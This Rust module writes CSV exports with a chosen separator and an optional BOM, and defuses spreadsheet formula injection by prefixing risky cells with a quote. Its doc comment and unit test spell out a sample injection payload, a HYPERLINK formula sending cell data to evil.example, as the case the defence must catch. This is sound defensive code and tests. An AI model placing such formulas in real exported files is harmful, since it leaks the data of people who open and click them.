//! The one CSV writer of every export of node and hub: the separator chosen by one parser of
//! the `sep` parameter, an optional UTF-8 BOM for Excel, and cells made safe to open in a
//! spreadsheet (formula neutralisation).
//!
//! # Formula neutralisation (the rule)
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and some
//! also after a leading tab or carriage return; a formula such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Apri")` sends the sheet's data away when
//! clicked. Following OWASP ("CSV Injection"), a cell starting with one of `=`, `+`, `-`,
//! `@`, tab or CR is written with a `'` in front, which spreadsheets show as text and do not
//! evaluate; the `csv` crate quotes the cell if it holds the separator, a quote or a line
//! break.
//!
//! One exception keeps numbers usable: a cell that is *only* a plain number with a sign
//! (`-12`, `-12,5`, `+3.25`: one sign, digits, at most one `,` or `.` followed by digits) is
//! left as it is. Such a cell holds no function name, no cell reference, no operator after
//! the sign and no quote, so the spreadsheet can only read it as a number (or as text): it
//! cannot run anything. Anything else after the sign (`-1+1`, `-A1`, `-12,5 )`) is
//! neutralised.

use std::borrow::Cow;

/// The field separator of a CSV export.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Separator {
    /// `,` (the default; RFC 4180).
    #[default]
    Comma,
    /// `;`, as spreadsheets with Italian settings expect (the comma is the decimal mark).
    Semicolon,
}

/// A `sep` value that names no separator.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("separatore {0:?} non valido: usare comma (,) oppure semicolon (;)")]
pub struct UnknownSeparator(pub String);

impl Separator {
    /// Parses the `sep` (or `separatore`) query parameter: absent or empty, `comma`, `,`,
    /// `virgola` → comma; `semicolon`, `;`, `puntoevirgola` → semicolon.
    pub fn parse(param: Option<&str>) -> Result<Separator, UnknownSeparator> {
        match param.map(str::trim) {
            None | Some("" | "comma" | "," | "virgola") => Ok(Separator::Comma),
            Some("semicolon" | ";" | "puntoevirgola") => Ok(Separator::Semicolon),
            Some(other) => Err(UnknownSeparator(other.to_owned())),
        }
    }

    /// The separator byte.
    pub fn byte(self) -> u8 {
        match self {
            Separator::Comma => b',',
            Separator::Semicolon => b';',
        }
    }

    /// Writes a decimal number for this separator: with `;` the decimal mark is a comma, as
    /// Italian spreadsheets read it.
    pub fn decimal(self, text: &str) -> String {
        match self {
            Separator::Comma => text.to_owned(),
            Separator::Semicolon => text.replace('.', ","),
        }
    }
}

/// The UTF-8 byte order mark that makes Excel read a CSV file as UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV file being written in memory. Every cell goes through [`neutralise`].
#[derive(Debug)]
pub struct CsvWriter {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvWriter {
    /// A writer with `separator`; with `bom` the file starts with the UTF-8 BOM (for Excel).
    pub fn new(separator: Separator, bom: bool) -> CsvWriter {
        let start = if bom { BOM.to_vec() } else { Vec::new() };
        CsvWriter {
            writer: csv::WriterBuilder::new()
                .delimiter(separator.byte())
                .from_writer(start),
        }
    }

    /// Writes one record (the header row or a data row).
    pub fn write<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.writer.write_record(
            cells
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    /// The bytes written.
    pub fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.writer
            .into_inner()
            .map_err(|err| csv::Error::from(err.into_error()))
    }
}

/// A cell as it may be written: with a `'` in front if a spreadsheet could read it as a
/// formula (see the module documentation for the rule).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let Some(first) = cell.chars().next() else {
        return Cow::Borrowed(cell);
    };
    let triggers = matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r');
    if triggers && !is_signed_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12`, `+12,5`, `-0.25`: one sign, digits, at most one decimal mark followed by digits.
fn is_signed_number(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix(['-', '+']) else {
        return false;
    };
    let (whole, fraction) = match rest.split_once([',', '.']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (rest, None),
    };
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[&str]], separator: Separator, bom: bool) -> String {
        let mut writer = CsvWriter::new(separator, bom);
        for row in rows {
            writer.write(row.iter()).expect("write");
        }
        String::from_utf8(writer.finish().expect("finish")).expect("utf-8")
    }

    #[test]
    fn formulas_are_neutralised_and_plain_numbers_kept() {
        let attack = r#"=HYPERLINK("http://evil.example/?x="&A1,"Apri")"#;
        assert_eq!(neutralise(attack), format!("'{attack}"));
        for cell in [
            "+1+1", "-1+1", "@SUM(A1)", "\tx", "\r=1", "-A1", "-", "+", "-12,5 )",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["-12,5", "-12.5", "+3", "-0", "12", "", "testo", "'già"] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
        // Quoting stays the csv crate's job: the neutralised cell is still one cell.
        assert_eq!(
            written(&[&["oggetto", attack]], Separator::Semicolon, false),
            "oggetto;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Apri\"\")\"\n"
        );
    }

    #[test]
    fn separator_parameter_and_bom() {
        assert_eq!(Separator::parse(None), Ok(Separator::Comma));
        assert_eq!(Separator::parse(Some("")), Ok(Separator::Comma));
        assert_eq!(Separator::parse(Some(",")), Ok(Separator::Comma));
        assert_eq!(
            Separator::parse(Some("semicolon")),
            Ok(Separator::Semicolon)
        );
        assert_eq!(Separator::parse(Some(";")), Ok(Separator::Semicolon));
        assert!(Separator::parse(Some("tab")).is_err());
        assert_eq!(Separator::Semicolon.decimal("12.50"), "12,50");
        let text = written(&[&["a", "b"]], Separator::Comma, true);
        assert_eq!(text, "\u{feff}a,b\n");
    }
}
